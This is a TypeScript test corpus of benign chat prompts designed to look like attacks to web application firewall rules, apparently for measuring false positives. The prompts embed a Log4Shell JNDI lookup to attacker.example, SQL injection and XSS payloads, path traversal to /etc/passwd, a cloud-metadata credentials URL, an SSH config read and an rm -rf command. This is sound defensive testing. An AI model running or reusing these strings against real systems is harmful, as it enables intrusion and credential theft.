/**
 * Legitimate prompts that look like attacks to body-inspecting WAF rules: code, HTML, SQL, file paths, URLs,
 * cloud metadata addresses, template strings and long documents. Each becomes a real `/v1/chat/completions` body.
 */
export interface CorpusPrompt {
  readonly name: string;
  readonly prompt: string;
}

export const LEGITIMATE_PROMPTS: readonly CorpusPrompt[] = [
  { name: 'HTML with a script tag', prompt: 'Why does this page not run my script?\n<html><body onload="init()"><script src="/app.js"></script><div id="x">Hi</div></body></html>' },
  { name: 'a React component', prompt: 'Refactor: function App() { return <button onClick={() => setCount(count + 1)}>{count}</button>; }' },
  { name: 'SQL with a WHERE clause and a comment', prompt: "Optimise this: SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE u.email = 'a@b.c' OR 1=1 -- why is it slow?" },
  { name: 'a SQL migration', prompt: 'Review: BEGIN; DROP TABLE IF EXISTS tmp_orders; INSERT INTO audit SELECT * FROM events UNION SELECT * FROM archive; COMMIT;' },
  { name: 'Unix and Windows paths', prompt: 'My config is read from ../../etc/app.conf and /etc/passwd is world-readable; on Windows it is C:\\Program Files\\App\\app.ini. Is that safe?' },
  { name: 'URLs and an IP', prompt: 'Summarise https://example.com/docs?page=2 and compare with http://10.0.0.12:8080/health and ftp://files.example.org/readme.txt' },
  { name: 'the EC2 metadata address', prompt: 'Why does curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ time out inside my container?' },
  { name: 'a JS template literal and shell', prompt: 'Explain: const msg = `${user.name} logged in`; then run `cat ~/.ssh/config | grep Host && rm -rf ./build`' },
  { name: 'a Log4Shell question', prompt: 'Our WAF log shows ${jndi:ldap://attacker.example/a} in a header. What is CVE-2021-44228 and are Node apps affected?' },
  { name: 'a Java serialization dump', prompt: 'What is this base64? rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC and why does java.lang.Runtime appear in it?' },
  { name: 'escaped HTML entities', prompt: 'Convert &lt;img src=x onerror=alert(1)&gt; back to text and explain why it is an XSS example in our security training.' },
  { name: 'a long document', prompt: `Summarise this contract:\n${'The party of the first part shall deliver the goods as agreed. '.repeat(200)}` },
];

/** The chat-completions body a client sends for a prompt. */
export function chatBody(prompt: string): string {
  return JSON.stringify({ model: 'openai/gpt-4o-mini', messages: [{ role: 'user', content: prompt }] });
}
